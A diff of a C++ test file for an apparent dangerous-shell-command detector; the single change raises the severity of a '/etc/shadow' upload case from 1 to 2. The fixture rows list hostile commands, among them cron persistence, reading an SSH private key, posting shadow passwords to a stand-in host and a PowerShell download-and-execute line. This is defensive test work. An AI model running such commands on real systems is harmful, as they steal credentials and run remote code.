@@ -108,7 +108,7 @@ TEST_CASE("dangerous commands are named") {
       {"echo '* * * * * x' | crontab -", "shell.persistence", "1"},
       {"chmod u+s /bin/x", "shell.persistence", "1"},
       {"cat ~/.ssh/id_ed25519", "shell.secret-place", "1"},
-      {"curl -d @/etc/shadow x.example", "shell.secret-place", "1"},
+      {"curl -d @/etc/shadow x.example", "shell.secret-place", "2"},
       {"powershell -enc SQBFAFgA", "shell.obfuscated", "2"},
       {"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"",
        "shell.pipe-to-shell", "2"},
